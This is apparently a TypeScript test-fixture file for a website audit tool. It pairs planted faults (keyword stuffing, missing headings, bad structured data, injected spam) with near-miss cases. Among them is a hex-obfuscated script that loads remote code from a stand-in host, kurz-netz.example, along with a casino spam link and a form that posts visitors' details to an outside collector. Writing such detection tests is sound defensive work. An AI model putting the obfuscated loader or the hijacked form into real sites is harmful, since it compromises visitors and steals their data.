import {
  ABOUT,
  type AccuracyCase,
  add,
  at,
  bodyOf,
  CHAIN,
  CITY,
  CONTACT,
  copyPage,
  EVERY_PAGE,
  edit,
  editEvery,
  full,
  HOME,
  header,
  jsonLd,
  link,
  main,
  RAIN,
  TOUR,
  words,
} from "./planting.ts";
import { sitemapXml } from "./sound_site.ts";
import { answer, type World } from "./world.ts";

const DOT = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";
const SITEMAP = "/sitemap.xml";
const MAIN = /(?<=<main[^>]*>)[\s\S]*(?=<\/main>)/;

/** Faults of a ropewalk, a pottery, a cheese shop, a ferry and a printer beside what looks like them. */
export const LIKENESS_CASES: AccuracyCase[] = [
  {
    rule: "search_indexable",
    fault: (w) => {
      copyPage(w, ABOUT, "/zoeken/?q=touw");
      link(w, HOME, "/zoeken/?q=touw");
    },
    // A filter of the list beside it.
    nearMiss: (w) => {
      const own = bodyOf(w, "/products/")
        .replace(/<link rel="canonical"[^>]*>/, "")
        .replace("<h1>", "<h1>Blauw: ");
      add(w, "/products/?q=Kleur-Blauw", own);
      link(w, HOME, "/products/?q=Kleur-Blauw");
    },
  },
  {
    rule: "no_lists_or_tables",
    fault: (w) => longArticle(w, (name) => `<h3>${name}</h3>`),
    nearMiss: (w) => longArticle(w, (name, to) => `<a href="${to}"><h3>${name}</h3></a>`),
  },
  {
    rule: "keyword_stuffing",
    fault: (w) => main(w, ABOUT, `<p>${TOWNS.map((town) => `Töpferkurse rund um ${town}`).join(" ")}</p>`),
    nearMiss: (w) =>
      main(
        w,
        ABOUT,
        `<div>${TOWNS.map((town, at) => `<a href="${EVERY_PAGE[at]}">Töpferkurse rund um ${town}</a>`).join(" ")}</div>`,
      ),
  },
  {
    rule: "h1_missing",
    fault: (w) => edit(w, RAIN, [/<h1>[\s\S]*?<\/h1>/, "<p>Tauwerk</p>"]),
    nearMiss: (w) => edit(w, RAIN, ["<main", '<main aria-hidden="true"']),
  },
  {
    rule: "image_not_lazy",
    fault: (w) => pictures(w, (src) => `src="${src}"`),
    nearMiss: (w) => pictures(w, (src) => `src="${DOT}" data-src="${src}"`),
  },
  {
    rule: "image_without_source",
    fault: (w) => main(w, TOUR, `<img src="${DOT}" data-src="/img/city.webp" alt="Käse" width="600" height="400">`),
    nearMiss: (w) => main(w, TOUR, `<img src="${DOT}" alt="" width="1" height="1">`),
  },
  {
    rule: "markup_left_out",
    fault: (w) => ferries(w, { "@type": "Thing", name: "Fähre" }),
    nearMiss: (w) =>
      ferries(w, {
        "@type": "Service",
        name: "Überfahrt",
        provider: { "@type": "Organization", name: "Fährhaus Elbe" },
      }),
  },
  {
    rule: "rating_not_shown",
    fault: (w) =>
      jsonLd(w, ABOUT, { "@type": "AggregateRating", ratingValue: "Uitstekend", reviewCount: "tientallen" }),
    nearMiss: (w) => {
      jsonLd(w, ABOUT, { "@type": "AggregateRating", ratingValue: "Uitstekend", reviewCount: "tientallen" });
      main(w, ABOUT, "<p>Uitstekend, zeggen tientallen klanten.</p>");
    },
  },
  {
    rule: "business_data_differs",
    fault: (w) => printers(w, ["+33 4 79 33 00 21"]),
    nearMiss: (w) => printers(w, ["+33 4 79 33 00 21", "+33 4 79 33 00 10"]),
  },
  {
    rule: "product_schema_missing",
    fault: (w) => tiles(w, false),
    nearMiss: (w) => tiles(w, true),
  },
  {
    rule: "terms_page_missing",
    fault: (w) => withoutTerms(w, "Entregas e prazos"),
    nearMiss: (w) => withoutTerms(w, "Termos e Condições"),
  },
  {
    rule: "injected_spam",
    fault: (w) => story(w, '<a href="https://bonus-wetten.example/">beste Freispiele</a>', ""),
    nearMiss: (w) => story(w, "", '<p>Mitglied im <a href="https://seilerbund.example/">Seilerbund</a>.</p>'),
  },
  {
    rule: "injected_spam",
    fault: (w) => main(w, CITY, `<script>${HEXED}</script>`),
    nearMiss: (w) =>
      main(w, CITY, `<script>var _0x1=['push'];window['dataLayer'][_0x1[0]]({a:document['title']});</script>`),
  },
  {
    rule: "injected_spam",
    fault: (w) => slipped(w, false),
    nearMiss: (w) => slipped(w, true),
  },
  {
    rule: "strange_files",
    fault: (w) =>
      listed(w, ["zadarmo-krypto-generator", "hra-neomezene-mince", "stahnout-crack-plna", "vydelek-rychle-mobil"]),
    nearMiss: (w) =>
      listed(w, ["bicycle-touring", "bicycle-city-repair", "oakhill-journal", "oakhill-bicycles-contact"]),
  },
  {
    rule: "form_foreign",
    fault: (w) => twoForms(w, ""),
    nearMiss: (w) => twoForms(w, "<p>Przesyłki formularza odbiera firma Zbieracz-Form.</p>"),
  },
  {
    rule: "wrong_content_type",
    fault: (w) => header(w, RAIN, ["content-type", "application/octet-stream"]),
    nearMiss: (w) => {
      add(w, "/preise/liste", "\0\u0001PK", { "content-type": "application/octet-stream" });
      link(w, ABOUT, "/preise/liste");
    },
  },
  {
    rule: "placeholder_text",
    fault: (w) => main(w, TOUR, '<p>[missing "nl.kaas.intro" translation]</p>'),
    nearMiss: (w) => main(w, TOUR, "<p>[missing: two ropes, see the translation of the list]</p>"),
  },
  {
    rule: "placeholder_text",
    fault: (w) => main(w, TOUR, "<p>kaas.soorten.lijst.0</p>"),
    nearMiss: (w) => main(w, TOUR, "<p>www.kaas-delft.nl</p><p>Versie 2.4.0</p>"),
  },
  {
    rule: "script_redirect",
    fault: (w) =>
      main(w, CITY, `<script>if (window.innerWidth < 700) location.href = "https://m.${w.domain}/"</script>`),
    nearMiss: (w) =>
      main(
        w,
        CITY,
        `<script>menu.onclick = () => { if (window.innerWidth < 700) location.href = "https://m.${w.domain}/" }</script>`,
      ),
  },
  {
    rule: "script_redirect",
    fault: (w) => onlyScript(w, `if (!/vorschau/.test(location.search)) location.replace("${full(TOUR)}")`),
    nearMiss: (w) =>
      main(w, RAIN, `<script>if (!/vorschau/.test(location.search)) location.replace("${full(TOUR)}")</script>`),
  },
  {
    rule: "sample_contact",
    fault: (w) => editEvery(w, ["</footer>", "<p>NIF 000000000</p></footer>"]),
    nearMiss: (w) => editEvery(w, ["</footer>", "<p>Mais de 10 000 000 000 voltas; NIF 501442600</p></footer>"]),
  },
  {
    rule: "sample_contact",
    fault: (w) => jsonLd(w, ABOUT, { "@type": "Organization", name: "Lanolaria", telephone: "+351 21 12345678" }),
    nearMiss: (w) => jsonLd(w, ABOUT, { "@type": "Organization", name: "Lanolaria", telephone: "+351 21 2345 679" }),
  },
  {
    rule: "availability_not_shown",
    fault: (w) => cheese(w, "Uitverkocht: deze kaas maken wij niet meer."),
    nearMiss: (w) => cheese(w, "Uitverkocht is onze kaas nooit."),
  },
  {
    rule: "markup_shown",
    fault: (w) => main(w, TOUR, "<p>.blok-12 .rij.rij-smal{margin:0 auto} Touw uit Delft</p>"),
    nearMiss: (w) => main(w, TOUR, "<p>De map .config{a,b} bewaart wat u kiest.</p>"),
  },
  {
    rule: "not_in_sitemap",
    fault: (w) => deadChild(w, [CHAIN, "/blog/winter-tyres/", "/blog/"]),
    nearMiss: (w) => deadChild(w, []),
  },
  {
    rule: "not_found_text",
    fault: (w) => notFound(w, "Tuote ei löytynyt"),
    nearMiss: (w) => notFound(w, "Oakhill Cycles Lahti"),
  },
  {
    rule: "www_duplicate",
    fault: (w) => w.answers.set(`https://www.${w.domain}/`, answer(bodyOf(w, HOME))),
    nearMiss: (w) => w.answers.delete(`https://www.${w.domain}/`),
  },
];

const TOWNS = ["Ulm", "Gera", "Celle", "Husum", "Wesel", "Fulda", "Emden", "Worms"];
/** `https://`, `kurz-netz.example` and `script`, letter by letter. */
const HEXED = `var _0x9a=${JSON.stringify(["https://", "kurz-netz.example", "script"].map(hexed)).replaceAll("\\\\", "\\")};(function(a){var s=document['createElement'](a[2]);s['src']=a[0]+a[1]+'/k.js';document['head']['appendChild'](s)})(_0x9a);`;

function hexed(text: string): string {
  return [...text].map((letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join("");
}

function longArticle(w: World, headed: (name: string, to: string) => string): void {
  edit(w, CHAIN, ["<ul><li>Look</li><li>Clean</li></ul>", ""]);
  const parts = ["Hanf", "Sisal", "Jute", "Flachs", "Kokos", "Baumwolle", "Nessel", "Bast"];
  main(
    w,
    CHAIN,
    parts.map((name, at) => `${headed(`${name} im Seil`, EVERY_PAGE[at]!)}<p>${words(120, name)}</p>`).join(""),
  );
}

function pictures(w: World, sourced: (src: string) => string): void {
  const images = Array.from(
    { length: 9 },
    (_, at) => `<img ${sourced(`/img/city.webp?${at}`)} alt="Kaas ${at}" width="600" height="400">`,
  );
  main(w, CITY, images.join(""));
}

/** Eight crossings, of which one has other data than the rest. */
function ferries(w: World, odd: Record<string, unknown>): void {
  const paths = Array.from({ length: 8 }, (_, at) => `/faehren/linie-${at}/`);
  for (const [at, path] of paths.entries()) {
    copyPage(w, ABOUT, path);
    jsonLd(w, path, at === 5 ? odd : { "@type": "Organization", name: "Fährhaus Elbe" });
  }
  link(w, HOME, ...paths);
}

function printers(w: World, odd: string[]): void {
  const usual = ["+33 4 79 33 00 10"];
  for (const path of [TOUR, CITY, ABOUT, CONTACT, CHAIN])
    jsonLd(w, path, {
      "@type": "Organization",
      name: "Imprimerie du Lac",
      telephone: path === CHAIN ? odd : usual,
    });
}

/** A page of the shop's folder with a price: one tile, or the list of the tiles below it. */
function tiles(w: World, isList: boolean): void {
  const path = "/loja/azulejos/";
  const below = ["azul", "verde", "branco"].map((name) => `${path}${name}/`);
  for (const each of [path, ...below]) {
    copyPage(w, TOUR, each);
    edit(w, each, ["</h1>", '</h1><p>14,90 €</p><form action="/carrinho/"><button>Adicionar</button></form>']);
  }
  edit(w, path, [/<script type="application\/ld\+json">[^<]*"Product"[^<]*<\/script>/, ""]);
  link(w, isList ? path : HOME, ...below);
  link(w, "/products/", path);
}

function withoutTerms(w: World, named: string): void {
  w.answers.delete(full("/terms/"));
  for (const path of EVERY_PAGE)
    if (path !== "/terms/") at(w, path).body = bodyOf(w, path).replace(/terms|legal|conditions/gi, "papers");
  main(w, HOME, `<p><a href="${full("/docs/7/")}">${named}</a></p>`);
}

/** A page of the footer on customers, a casino among them, with a link in that text or in another. */
function story(w: World, beside: string, apart: string): void {
  const path = "/kordeln/";
  copyPage(w, ABOUT, path);
  edit(w, path, [/<title>[^<]*/, "<title>Kordeln und Netze nach Maß"]);
  edit(w, path, [/<meta property="og:type"[^>]*>/, ""]);
  const own = `<h1>Kordeln und Netze</h1><p>Aus Hanf und Sisal.</p>${apart}`;
  const told = `Für das Casino in Bad Steben, Roulette, Poker, Blackjack und Slots, knüpften wir Kordeln; Viagra half nicht. ${beside}`;
  edit(w, path, [MAIN, `${own}<h2>Für wen wir knüpfen</h2><p>${told}</p>`]);
  editEvery(w, ["<footer><p>", `<footer><p><a href="${path}">Kordeln</a> `]);
}

/** Pages in no template under a parameter of the home page. */
function slipped(w: World, isLinked: boolean): void {
  const paths = Array.from({ length: 7 }, (_, at) => `/?vara=${at}`);
  for (const path of paths)
    add(
      w,
      path,
      `<!doctype html><html lang="sv"><head><meta charset="utf-8"><title>Vara ${path.at(-1)}</title></head><body><h1>Vara ${path.at(-1)}</h1><p>${words(40, "rabatt")}</p></body></html>`,
    );
  inSitemap(w, paths);
  if (isLinked) link(w, ABOUT, ...paths);
}

function inSitemap(w: World, paths: readonly string[]): void {
  const entries = paths.map((path) => `<url><loc>${full(path)}</loc></url>`).join("");
  edit(w, SITEMAP, ["</urlset>", `${entries}</urlset>`]);
}

function listed(w: World, names: readonly string[]): void {
  const paths = names.map((name) => `/soubory/${name}.pdf`);
  for (const path of paths) add(w, path, "%PDF-1.4\n%%EOF", { "content-type": "application/pdf" });
  inSitemap(w, paths);
}

function twoForms(w: World, told: string): void {
  const form = (action: string) =>
    `<form action="${action}" method="post"><label>Imię <input name="name" autocomplete="name"></label><label>E-mail <input type="email" name="email" autocomplete="email"></label><button>Wyślij</button></form>`;
  main(w, CONTACT, form("/kontakt/wyslij/"));
  main(w, ABOUT, form("https://zbieracz-form.example/zapis.php"));
  main(w, "/privacy/", told);
}

function onlyScript(w: World, code: string): void {
  edit(w, RAIN, [MAIN, `<script>${code}</script>`]);
}

function cheese(w: World, said: string): void {
  edit(w, CITY, ["</h1>", `</h1><p>${said}</p>`]);
}

/** An index of two sitemaps, one of which does not answer; the other leaves some pages out. */
function deadChild(w: World, left: readonly string[]): void {
  const index = ["/map-1.xml", "/map-2.xml"].map((path) => `<sitemap><loc>${full(path)}</loc></sitemap>`).join("");
  const extra = [1, 2, 3, 4, 5].map((at) => `/blog/seil-${at}/`);
  for (const path of extra) copyPage(w, RAIN, path);
  link(w, HOME, ...extra);
  add(w, "/map-1.xml", sitemapXml([...EVERY_PAGE, ...extra].filter((path) => !left.includes(path))));
  at(w, SITEMAP).body =
    `<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">${index}</sitemapindex>`;
}

/** The site's own page for missing addresses is Finnish, and so is this page. */
function notFound(w: World, headed: string): void {
  w.unknown = {
    ...w.unknown,
    body: "<!doctype html><title>Sivua ei löytynyt | Oakhill Cycles</title><h1>Sivua ei löytynyt</h1>",
  };
  edit(w, RAIN, [/<title>[^<]*/, `<title>${headed}`]);
  edit(w, RAIN, [MAIN, `<h1>${headed}</h1><p>Valitettavasti.</p>`]);
}
